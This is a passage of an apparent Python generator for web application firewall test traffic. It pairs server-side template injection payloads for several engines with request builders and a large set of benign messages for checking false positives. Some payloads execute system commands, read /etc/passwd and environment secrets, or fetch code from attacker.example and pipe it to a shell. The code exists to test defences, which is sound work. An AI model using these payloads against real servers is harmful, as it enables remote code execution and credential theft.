    "${__import__('os').popen('whoami').read()}",
    "<%namespace file=\"/etc/passwd\" import=\"*\"/>",
    "${self.__init__.__globals__['util'].os.system('id')}",
    "<%include file=\"/etc/passwd\"/>",
    "${self.attr._NSAttr__parent.module.cache.compat.inspect.os.system('id')}",
    "<%call expr=\"__import__('os').system('id')\"/>",
    "${open('/etc/passwd').read()}",
]
TORNADO = [
    "{{7*7}}",
    "{% import os %}{{ os.popen('id').read() }}",
    "{% import subprocess %}{{ subprocess.check_output('id') }}",
    "{{ __import__('os').system('id') }}",
    "{% raw __import__('os').popen('whoami').read() %}",
    "{{ handler.settings }}",
    "{{ handler.application.settings[\"cookie_secret\"] }}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('os').popen('id').read() %}{{ x }}",
    "{% module Template(\"/etc/passwd\") %}",
    "{% include \"/etc/passwd\" %}",
]
NUNJUCKS = [
    "{{7*7}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor(\"return require('fs').readFileSync('/etc/passwd')\")() }}",
    "{{ [].constructor.constructor(\"return process\")().exit() }}",
    "{{ ''.constructor.constructor('return this')().process.env }}",
    "{% set x = range.constructor(\"return global.process\")() %}{{ x.env }}",
    "{{ (range.constructor)(\"return this.process.mainModule.require('child_process').spawnSync('id').stdout\")() }}",
    "{% include \"/etc/passwd\" %}",
    "{{ caller.constructor('return process')() }}",
]
EJS = [
    "<%- 7*7 %>",
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% require('child_process').exec('curl http://attacker.example/x|sh') %>",
    "<%= global.process.env %>",
    "<%- include('/etc/passwd') %>",
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami') %>",
    "x;process.mainModule.require('child_process').execSync('id');s",
    "<%= require('os').userInfo() %>",
    "<%_ process.kill(process.pid) _%>",
]
RAZOR = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"calc.exe\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"powershell\"; p.Start(); }",
    "@System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\")",
    "@Html.Raw(System.IO.File.ReadAllText(\"web.config\"))",
    "@(new System.Net.WebClient().DownloadString(\"http://attacker.example/x\"))",
    "@System.Reflection.Assembly.Load(System.Convert.FromBase64String(\"TVqQAAMAAAAEAAAA\")).EntryPoint"
    ".Invoke(null, null)",
    "@System.Environment.MachineName",
    "@{ System.Environment.Exit(0); }",
]
PEBBLE = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ request.getServletContext() }}",
    "{{ ''.class.forName('java.lang.Runtime') }}",
    "{% include '/etc/passwd' %}",
    "{{ 7 * 7 }}",
    "{{ \"\".getClass().getClassLoader() }}",
    "{% macro x() %}{{ ''.class.forName('java.lang.Runtime').getRuntime().exec('whoami') }}{% endmacro %}{{ x() }}",
    "{{ (1).TYPE.forName('java.lang.ProcessBuilder').getConstructors()[0] }}",
]
JINJAVA = [
    "{{'a'.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}}",
    "{{ ''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript')"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\") }}",
    "{{ ____int3rpr3t3r____.getConfig() }}",
    "{% set x = 'a'.getClass().forName('java.lang.System') %}{{ x.getenv() }}",
    "{{ 'x'.getClass().getClassLoader().loadClass('java.io.File') }}",
    "{{ ''.class.forName('java.net.URL').getConstructor(''.class).newInstance('http://attacker.example')"
    ".openStream() }}",
    "{{ ''.getClass().forName('java.lang.Thread').sleep(5000) }}",
    "{% for x in ''.getClass().forName('java.io.File').listRoots() %}{{ x }}{% endfor %}",
    "{{ ''.getClass().forName('java.nio.file.Files').readAllLines(''.getClass().forName('java.nio.file.Paths')"
    ".get('/etc/passwd')) }}",
    "{{ ____int3rpr3t3r____.getContext().getGlobalScope() }}",
]

CODE_NAMES = ["code", "expr", "filter", "callback", "q", "script", "name"]
URL_NAMES = ["url", "callback", "webhook", "image_url", "redirect", "feed", "avatar_url"]
JAVA_NAMES = ["q", "data", "filter", "payload", "name", "query"]
SER_NAMES = ["javax.faces.ViewState", "data", "state", "rememberMe", "session", "object"]
TPL_NAMES = ["name", "greeting", "template", "subject", "message", "title"]

TITLES = [
    # CRS 3.3.4
    Title("nodejs-injection", "generic", NODE_1, EVERYWHERE, RS_EVERYWHERE, CODE_NAMES),
    Title("java-rce-suspicious-class", "java", JAVA_RCE_CLASS, EVERYWHERE, RS_EVERYWHERE, JAVA_NAMES),
    Title("java-process-spawn", "java", JAVA_SPAWN, XML_DOC_PLACES, RS_XML_DOC_PLACES, JAVA_NAMES),
    Title("java-serialization-gadget", "java", JAVA_SER, EVERYWHERE, RS_EVERYWHERE, JAVA_NAMES),
    Title("java-suspicious-class", "java", JAVA_CLASS, EVERYWHERE, RS_EVERYWHERE, JAVA_NAMES),
    Title("java-serialization-magic-bytes", "java", MAGIC_BYTES, BYTES_PLACES, RS_BYTES_PLACES, SER_NAMES,
          latin1=True),
    Title("java-serialization-base64", "java", BASE64_SER, EVERYWHERE, RS_EVERYWHERE, SER_NAMES),
    Title("java-serialization-gadget-pl2", "java", JAVA_SER_PL2, EVERYWHERE, RS_EVERYWHERE, JAVA_NAMES),
    Title("java-suspicious-method", "java", JAVA_METHOD, EVERYWHERE, RS_EVERYWHERE, JAVA_NAMES),
    # CRS 4.x generic
    Title("nodejs-injection-2-of-2", "generic", NODE_2, EVERYWHERE, RS_EVERYWHERE, CODE_NAMES),
    Title("ssrf-cloud-metadata", "generic", SSRF_META, URL_PLACES, RS_URL_PLACES, URL_NAMES),
    Title("ssrf-ip-address", "generic", SSRF_IP, URL_PLACES, RS_URL_PLACES, URL_NAMES),
    Title("prototype-pollution", "generic", POLLUTION, KEY_PLACES, RS_KEY_PLACES, CODE_NAMES),
    Title("ruby-injection", "generic", RUBY, EVERYWHERE, RS_EVERYWHERE, CODE_NAMES),
    Title("perl-injection", "generic", PERL, EVERYWHERE, RS_EVERYWHERE, CODE_NAMES),
    Title("nodejs-dos", "generic", NODE_DOS, EVERYWHERE, RS_EVERYWHERE, CODE_NAMES),
    Title("php-data-scheme", "generic", DATA_SCHEME, URL_PLACES, RS_URL_PLACES, ["file", "page", "include",
                                                                                   "url", "template", "src"]),
    # CRS 4.x Java
    Title("log4shell", "java", LOG4J, EVERYWHERE, RS_EVERYWHERE, JAVA_NAMES),
    Title("java-class-loading", "java", CLASS_LOADING, KEY_PLACES, RS_KEY_PLACES, JAVA_NAMES),
    Title("java-script-file-upload", "java", JSP_UPLOAD, UPLOAD_PLACES, RS_UPLOAD_PLACES, ["file", "upload"]),
    # server-side template injection, one sub-family per engine
    Title("ssti-jinja2", "ssti", JINJA2, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-twig", "ssti", TWIG, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-freemarker", "ssti", FREEMARKER, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-velocity", "ssti", VELOCITY, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-thymeleaf", "ssti", THYMELEAF, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-erb", "ssti", ERB, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-smarty", "ssti", SMARTY, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-handlebars", "ssti", HANDLEBARS, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-pug", "ssti", PUG, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-mako", "ssti", MAKO, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-tornado", "ssti", TORNADO, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-nunjucks", "ssti", NUNJUCKS, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-ejs", "ssti", EJS, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-razor", "ssti", RAZOR, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-pebble", "ssti", PEBBLE, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
    Title("ssti-jinjava", "ssti", JINJAVA, TEMPLATE_PLACES, RS_TEMPLATE_PLACES, TPL_NAMES),
]


# --------------------------------------------------------------------------------------------------- encoders
def _url(p: str, latin1: bool = False) -> str:
    return urllib.parse.quote(p, safe="", encoding="latin-1" if latin1 else "utf-8")


def _cookie_enc(p: str, latin1: bool = False, name: bool = False) -> str:
    safe = COOKIE_SAFE.replace("=", "") if name else COOKIE_SAFE
    return urllib.parse.quote(p, safe=safe, encoding="latin-1" if latin1 else "utf-8")


def _headers(extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "application/json", **(extra or {})}


def _post(uri: str, body: str, ctype: str, extra: dict[str, str] | None = None,
          method: str = "POST") -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": _headers({"Content-Type": ctype, **(extra or {})})}


def _multipart(uri: str, parts: list[tuple[str, str | None, str]]) -> dict[str, Any]:
    """parts: (field name, file name or None, content)."""
    lines = []
    for field, filename, content in parts:
        disp = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename is not None else "")
        lines.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n")
        if filename is not None:
            lines.append("Content-Type: application/octet-stream\r\n")
        lines.append(f"\r\n{content}\r\n")
    lines.append(f"--{BOUNDARY}--\r\n")
    return _post(uri, "".join(lines), f"multipart/form-data; boundary={BOUNDARY}")


def _mp_name(p: str) -> str:
    """A value as a browser writes it inside a Content-Disposition quoted string."""
    return p.replace('"', "%22")


def _key_path(p: str) -> list[str]:
    """`a[b][c]`, `a.b.c` and `a['b']` as the key list a nested-object parser builds."""
    keys: list[str] = []
    for part in p.replace("]", "").replace("[", ".").split("."):
        part = part.strip("'\"")
        if part:
            keys.append(part)
    return keys or [p]


def _nest(keys: list[str], leaf: Any) -> Any:
    doc: Any = leaf
    for key in reversed(keys):
        doc = {key: doc}
    return doc


def _deep(depth: int, name: str, value: Any) -> dict[str, Any]:
    wrappers = ["profile", "settings", "notifications"][: depth - 1]
    return {"email": "a@example.org", **_nest(wrappers + [name], value)}


def _xml(element: str, text: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann</name><{element}>{escape(text)}</{element}></user>'


def _unsuitable(place: str, p: str) -> bool:
    line_break = any(c in p for c in "\r\n\x00")
    if place.split(":")[0] in ("header", "rs-header") or place in ("multipart-name", "multipart-filename",
                                                                    "admin-upload-filename", "rs-multipart-filename"):
        return line_break
    if place in ("xml-raw", "rs-xml-raw"):
        return not p.startswith("<")
    return False


def real_request(place: str, p: str, name: str, i: int, t: Title) -> dict[str, Any]:
    enc = _url(p, t.latin1)
    if place == "query":
        return _get(f"/api/users?{name}={enc}&page=1")
    if place == "param-name":
        return _get(f"/api/users?page=1&{enc}=1")
    if place == "form":
        return _post("/admin/users/search", f"csrf_token=t0k3n&{_url(name)}={enc}", "application/x-www-form-urlencoded")
    if place == "form-name":
        return _post("/admin/users/search", f"csrf_token=t0k3n&{enc}=1", "application/x-www-form-urlencoded")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place.startswith("json-depth-"):
        return _json("/api/users/42", _deep(int(place[-1]), name, p))
    if place == "json-array":
        doc: Any = ({"tags": ["team", p]} if i % 2 else {"profile": {"links": [{"label": "home", name: p}]}})
        return _json("/api/users", {"name": "Ann", **doc})
    if place == "json-key":
        return _json("/api/users/42", {"name": "Ann", "metadata": {p: "1"}} if i % 2 else {p: "1", "name": "Ann"})
    if place == "json-path":
        return _json("/api/users", {"name": "Ann", **_nest(_key_path(p), True)})
    if place == "json-path-deep":
        return _json("/api/users/42", {"profile": {"settings": _nest(_key_path(p), "admin")}})
    if place == "json-path-array":
        return _json("/api/users", {"items": [{"id": 1}, _nest(_key_path(p), 1)]})
    if place == "cookie":
        return {**_get("/api/users?page=1"), "headers": _headers(
            {"Cookie": f"session=9f2c1e7a; {name}={_cookie_enc(p, t.latin1)}"})}
    if place == "cookie-name":
        return {**_get("/api/users?page=1"), "headers": _headers(
            {"Cookie": f"session=9f2c1e7a; {_cookie_enc(p, t.latin1, name=True)}=1"})}
    if place == "header:User-Agent":
        return {**_get("/api/users?page=1"), "headers": _headers(ua=p)}
    if place.startswith("header:"):
        return {**_get("/api/users?page=1"), "headers": _headers({place.split(":", 1)[1]: p})}
    if place == "xml":
        return _post("/api/users", _xml(name.replace(".", "_"), p), "application/xml")
    if place == "xml-attr":
        return _post("/api/users", f'<?xml version="1.0"?>\n<user name="Ann" note={quoteattr(p)}/>', "application/xml")
    if place == "xml-raw":
        return _post("/api/users", p, "application/xml")
    if place == "multipart-field":
        return _multipart("/api/users/42/avatar", [(name, None, p), ("avatar", "me.png", "PNGDATA")])
    if place == "multipart-name":
        return _multipart("/api/users/42/avatar", [(_mp_name(p), None, "1"), ("avatar", "me.png", "PNGDATA")])
    if place == "multipart-filename":
        body = JSP_BODY if t.sub == "java-script-file-upload" else "PNGDATA"
        return _multipart("/api/users/42/avatar", [("caption", None, "me"), ("avatar", _mp_name(p), body)])
    if place == "admin-upload-filename":
        return _multipart("/admin/users/import", [("csrf_token", None, "t0k3n"), ("file", _mp_name(p), JSP_BODY)])
    if place == "put-file":
        return _post(f"/api/users/42/files/{_url(p)}", JSP_BODY, "application/octet-stream", method="PUT")
    if place == "path":
        return _get(f"/api/users/{enc}")
    if place == "path-matrix":
        return _get(f"/api/users/42;{name}={enc}")
    if place == "path-file":
        return _get(f"/api/users/42/files/{enc}")
    if place == "raw-body":
        return _post("/api/users", p, "text/plain")
    raise ValueError(place)


def rs_request(place: str, p: str, name: str, i: int, t: Title) -> dict[str, Any]:
    path = RS_PATHS[i % len(RS_PATHS)]
    enc = _url(p, t.latin1)
    if place == "rs-query":
        return _get(f"{path}?{name}={enc}")
    if place == "rs-param-name":
        return _get(f"{path}?{enc}=1")
    if place == "rs-form":
        return _post(path, f"{name}={enc}", "application/x-www-form-urlencoded")
    if place == "rs-form-name":
        return _post(path, f"{enc}=1", "application/x-www-form-urlencoded")
    if place == "rs-json":
        return _json(path, {name: p})
    if place == "rs-json-path":
        return _json(path, _nest(_key_path(p), True))
    if place == "rs-xml":
        return _post(path, f'<?xml version="1.0"?>\n<root><{name}>{escape(p)}</{name}></root>', "application/xml")
    if place == "rs-xml-raw":
        return _post(path, p, "application/xml")
    if place == "rs-raw-body":
        return _post(path, enc if t.latin1 else p, "application/x-www-form-urlencoded")
    if place == "rs-cookie":
        return {**_get(path), "headers": _headers({"Cookie": f"{name}={_cookie_enc(p, t.latin1)}"})}
    if place == "rs-header:User-Agent":
        return {**_get(path), "headers": _headers(ua=p)}
    if place.startswith("rs-header:"):
        return {**_get(path), "headers": _headers({place.split(":", 1)[1]: p})}
    if place == "rs-multipart-filename":
        return _multipart(path, [(name, _mp_name(p), JSP_BODY)])
    if place == "rs-put-file":
        return _post(f"/{_url(p)}/", JSP_BODY, "application/octet-stream", method="PUT")
    raise ValueError(place)


def _pick(places: list[str], start: int, p: str) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if not _unsuitable(place, p):
            return place
    raise ValueError(p)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for ti, t in enumerate(TITLES):
        for i, p in enumerate(t.payloads):
            real = _pick(t.real, i + ti, p)
            rs = _pick(t.rs, i + 2 * ti, p)
            builders: list[tuple[str, Callable[..., dict[str, Any]], str]] = [
                (real, real_request, t.names[(i + ti) % len(t.names)]),
                (rs, rs_request, RS_NAMES[(i + ti) % len(RS_NAMES)])]
            for place, build, name in builders:
                n += 1
                yield {**build(place, p, name, i, t), "id": f"{NAME}-{t.category}-{n:04d}",
                       "category": t.category, "sub": t.sub, "placement": place, "payload": p}


# --------------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "we replaced child_process.exec with execFile in the build script, much safer",
    "does anyone know why require('dotenv') loads twice in the worker?",
    "the Node 20 upgrade is merged; process.env reads are now in config.ts only",
    "reminder: never pass a string to setTimeout, always a function",
    "the constructor in UserService takes the repository as its first argument",
    "prototype of the new onboarding flow is in Figma, feedback welcome",
    "Object.freeze on the defaults object stopped the accidental writes",
    "our lodash merge is patched against prototype pollution since 4.17.21",
    "the metadata service on our EC2 hosts needs IMDSv2 tokens now",
    "don't hardcode 169.254.169.254 in the app, use the SDK credential chain",
    "the router admin page is http://192.168.1.1 if you're in the office",
    "localhost:8080 is the API, localhost:3000 the frontend",
    "Ruby 3.3 upgrade done; the Gemfile.lock is committed",
    "I used system() in a rake task, it's fine, it's not user input",
    "the Perl script that rotates logs is finally gone",
    "who owns the old CGI scripts? the perl ones under /opt/legacy",
    "while true loops in the watcher burn CPU, use inotify instead",
    "for (;;) is idiomatic C for an endless loop, but please add a break",
    "the data: URLs for small icons are inlined by the bundler",
    "inline images as data:image/png;base64 make the email bigger, attach them instead",
    "log4j is on 2.17.2 everywhere now, the jndi lookups are disabled",
    "the Log4Shell postmortem doc is in the security folder",
    "Spring Boot 3.2 migration starts next sprint",
    "we keep Jackson default typing off, that's how the gadget chains got in elsewhere",
    "the Java serialization in the old cache was swapped for JSON last quarter",
    "ObjectInputStream is banned by the linter now, good",
    "Runtime.getRuntime() shows up in the CLI tool only",
    "ProcessBuilder is fine for the admin CLI, reviewed by security",
    "the class loader leak in Tomcat went away after the restart",
    "someone uploaded a .jsp file to the test bucket? the scanner flagged it",
    "Tomcat manager is disabled in prod, good",
    "Jinja templates for the emails live in templates/email/",
    "in the Jinja template use {{ user.first_name }} not {{ user.name }}",
    "Twig cache was stale, clearing it fixed the layout",
    "Freemarker still renders the invoices, ${amount} is formatted by the macro",
    "the Velocity templates for the PDF export are next to the service",
    "Thymeleaf fragments are in templates/fragments, th:replace works there",
    "ERB files end in .html.erb, <%= %> prints and <% %> doesn't",
    "Smarty is only in the legacy marketing site",
    "Handlebars partials for the Slack blocks are in src/views",
    "Pug indentation broke the footer again, tabs vs spaces",
    "Mako templates in the reporting tool need the new filters",
    "Tornado is still serving the websocket gateway",
    "nunjucks autoescape is on, so {{ body }} is safe",
    "EJS in the admin views renders <%= title %>",
    "Razor views in the .NET service use @Model.Name",
    "Pebble templates come with the Java mailer",
    "HubSpot email templates use Jinjava under the hood",
    "eval is disabled in our CSP, no unsafe-eval",
    "Function.prototype.bind polyfill can go, all browsers have it",
    "the import of the users CSV is running, 40% done",
    "new class of interns starts Monday, say hi",
    "the runtime of the nightly job went from 12 to 40 minutes",
    "I'll process the refunds after lunch",
    "exec team review moved to Thursday 3pm",
    "system status page is green again",
    "our gopher mascot sticker order arrived",
    "the perl necklace for the raffle is at the front desk",
    "Ruby from marketing is joining the standup today",
    "Java beans and pastries in the kitchen, help yourselves",
    "the java chip cookies are gone already",
    "the template for the quarterly report is in the shared drive",
    "use the invoice template, fields are {{customer}} and {{total}}",
    "Hi {{first_name}}, your order {{order_id}} has shipped",
    "price is ${amount} per seat, billed monthly",
    "the greeting says Hello #{name} in the Ruby mailer preview",
    "set the subject to 'Welcome, {{ name }}!'",
    "the on-call rotation template uses ${week} and ${owner}",
    "the constructor company delivered the new desks",
    "the loader in the warehouse is broken, forklift repair Monday",
    "check the metadata on the photos before publishing",
    "the IP for the office printer is 10.0.4.25, add it manually",
    "ping 8.8.8.8 works but DNS doesn't, looking into it",
    "the VPN gives you a 10.x address, that's expected",
    "our status dashboard runs at http://10.0.3.7:3000 inside the VPN",
    "the kubelet on node 3 restarted, pods recovered",
    "the proto files for the gRPC service are in api/proto",
    "rename __init__.py in the tests folder, pytest is confused",
    "the config.items() call lists every key, handy for debugging locally",
    "we use ENV.fetch in Rails so missing config fails loudly",
    "who broke the CI? the build.gradle change needs a rebase",
    "Apache Commons upgrade is in, commons-collections4 4.4",
    "the rememberMe cookie is signed now",
    "javax.faces is only in the ancient HR portal",
    "spawn a new worker per tenant? sounds expensive",
    "the fork of the library lives in our org now",
    "kill the stale preview environments, please",
    "DoS test for the rate limiter is scheduled for Saturday",
    "the regex for emails had catastrophic backtracking, fixed with a simpler one",
    "Array(5).fill(0) is the trick for the empty chart",
    "'-'.repeat(40) prints the separator in the CLI",
    "process.nextTick vs setImmediate explained in the wiki",
    "the blockchain demo runs in a while loop until you press q",
    "data scheme in the mobile app deep links is myapp://",
    "php is only left in the WordPress marketing site",
    "the pipeline first stage is lint, then tests, then build",
    "the classLoader diagram is in the architecture doc",
    "docBase for the static site is /var/www/html",
    "upload your avatar as PNG or JPEG, max 2 MB",
    "the file shell-scripts-guide.pdf is in the wiki",
    "JSP pages are gone from the portal since the React rewrite",
    "the .jspx files in the old repo can be deleted",
    "the exec summary went out, thanks everyone",
    "@channel lunch is here",
    "happy Friday! demo at 4",
    "the new office on 127 Main Street opens in May",
    "Room 169 is booked for the offsite planning",
    "the taxi number is 0177 555 0101",
    "call me on 0172 3456789 if the door is locked",
    "reading 'The Pragmatic Programmer' again, chapter on DRY",
    "Jenkins is retired, GitHub Actions runs everything",
    "the sandbox escape CVE in vm2 is why we dropped vm2",
    "hello from the Berlin team!",
    "Dear team, the holiday calendar is updated",
    "my ruby anniversary is next week, taking Friday off",
    "new coffee machine runs a self-cleaning process every night",
    "the Spring cleaning of the repo: 40 stale branches deleted",
]
SEARCHES = [
    "Ruby Chen", "Perl Jensen", "Java Ortiz", "Jon Constructor", "Mako Tanaka", "Pug Lee", "Twiggy Rhodes",
    "Razor Sharp Barbers", "Tornado Alley Cafe", "Velocity Partners", "Smarty Pants Kids Store", "Pebble Beach",
    "Freemarker Farm", "Handlebars Bike Shop", "Jinja Garden Restaurant", "Thyme Leaf Bistro", "Ember Erb",
    "Nunjucks Studio", "process engineer", "runtime metrics", "system administrator", "class of 2019",
    "prototype lab", "template designer", "data scientist", "metadata librarian", "java developer berlin",
    "ruby on rails contractor", "node.js backend", "perl maintainer", "spring boot engineer", "cloud architect",
    "127 Main Street", "169 Elm Road", "10 Downing Street", "192 Park Avenue", "1 Infinite Loop",
    "Mission Street 100", "Constructor Lane 4", "Prototype Road 12", "Loader Street 7", "Exec Tower",
    "O'Brien", "Anne-Marie", "José Ruiz", "Zoë", "Siobhán O'Neil", "Björn", "dev@example.org",
    "ann.lee@example.com", "support ticket 4412", "invoice 2024-117", "order #1234", "SKU 7*7 shelf",
    "7x7 tiles", "{{ name }} placeholder", "email template", "welcome message", "onboarding checklist",
    "system status", "process map", "runtime", "exec assistant", "class schedule", "import history",
    "export users", "filter by team", "callback request", "webhook logs", "redirect rules", "feed reader",
    "avatar update", "image upload", "shell company", "pipeline review", "first pattern", "docBase",
    "child process", "require approval", "global settings", "module owner", "the while loop",
    "for loop", "repeat order", "fill rate", "join date", "sleep study", "exit interview", "kill switch",
    "spawn point", "fork lift", "net promoter", "fs team", "vm host", "buffer stock", "Function room",
    "Reflect workshop", "import tax", "user data", "meta data", "latest news", "security credentials training",
    "instance count", "compute budget", "project id", "metadata google", "169.254", "localhost",
    "ip address change", "router 192.168.1.1", "10.0.0.1 gateway", "0x7f color", "hex 0177",
    "data plan", "data:text", "base64 image", "png avatar", "rO0 rowing club", "ACED exam results",
    "hash map", "priority queue", "array list", "url shortener", "object storage", "object lesson",
    "Apache Tomcat", "commons collections book", "invoker", "transformer toys", "chained events",
    "constant contact", "lazy map", "tied entry", "bean comparator", "templates impl", "xml decoder",
    "jndi", "ldap directory", "rmi", "dns records", "lower case", "upper case", "env vars", "k8s cluster",
]
LINKS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://developer.mozilla.org/en-US/docs/Web/URI/Schemes/data",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://ruby-doc.org/core-3.1.0/Kernel.html",
    "https://perldoc.perl.org/functions/system",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/platform/serialization/spec/protocol.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://tomcat.apache.org/tomcat-9.0-doc/config/valve.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://docs.ruby-lang.org/en/master/ERB.html",
    "https://www.smarty.net/docs/en/",
    "https://handlebarsjs.com/guide/",
    "https://pugjs.org/language/interpolation.html",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://ejs.co/#docs",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://pebbletemplates.io/wiki/guide/basic-usage/",
    "https://github.com/HubSpot/jinjava",
    "https://github.com/acme/api/blob/main/src/templates/welcome.html",
    "https://www.example.com/products?id=127&color=red",
    "https://shop.example.org/cart?item=7x7-tile&qty=2",
    "https://maps.example.com/?q=169+Elm+Road",
    "https://cdn.example.org/js/app.js?v=4.2.1",
    "https://blog.example.com/2024/03/12/why-we-moved-off-java-serialization",
]
PROSE = [
    "Runtime of the migration was 10 minutes; the process finished without errors",
    "The class was asked to name a new prototype for the science fair",
    "Our system exec team met with the Java user group on Tuesday",
    "Constructor Ltd., 10 Prototype Lane, Springfield",
    "Dear Sir, please find the ${amount} invoice attached",
    "Please fill in {{ your name }} and {{ your address }} on the form",
    "Ruby, Perl and Java were the three kittens in the litter",
    "The while-loop ride at the fair runs for (about) three minutes",
    "Data: attached; Metadata: see the second sheet",
    "The loader crane at pier 169 is out of service",
    "Smarty Pants daycare, 12 Velocity Road",
    "Handlebars, bells and baskets are 20% off this week",
    "Thyme leaf pesto recipe for the team lunch",
    "Freemarker Farms delivers fresh eggs on Thursdays",
    "The Tornado warning was lifted at 6 pm",
    "Jinja Bar & Grill reservation for 8 people",
    "Pebble Creek Apartments, unit 4B",
    "Razor scooters for the office are in the basement",
    "The mako shark exhibit opens at the aquarium in June",
    "The pug named Nunjucks won the dog show",
]
TEMPLATES = [
    "Hi {{first_name}}, welcome to {{workspace}}!",
    "Your order {{order_id}} ships on {{ship_date}}.",
    "Reminder: {{event}} starts at {{time}}",
    "Dear ${customer}, your invoice ${invoice_no} is ready.",
    "Hello #{name}, thanks for joining!",
    "{{name}} mentioned you in {{channel}}",
    "Total: {{ total | currency }}",
    "{% if vip %}Priority support{% endif %}",
    "Thanks {{ user.first_name }}, we got your request #{{ ticket.id }}",
    "<%= user.name %> has joined the team",
    "@Model.Title - weekly digest",
    "Hi {name}, your code is {code}",
    "Good morning [[${user}]], here is your summary",
    "[Reminder] {{ meeting.title }} at {{ meeting.time }}",
    "{{#each items}}{{this.name}}, {{/each}}",
    "{{> header}} Weekly update {{> footer}}",
    "Subject: {{ subject | default('No subject') }}",
    "{% for p in projects %}{{ p.name }}{% endfor %}",
    "${user.firstName} ${user.lastName}",
    "Welcome aboard, $name!",
]
CLIENT_UAS = [
    "Java/17.0.9",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "okhttp/4.12.0",
    "Jersey/2.41 (HttpUrlConnection 17.0.9)",
    "axios/1.6.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "got (https://github.com/sindresorhus/got)",
    "Faraday v2.9.0",
    "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53",
    "Ruby",
    "HTTP-Tiny/0.088",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15",
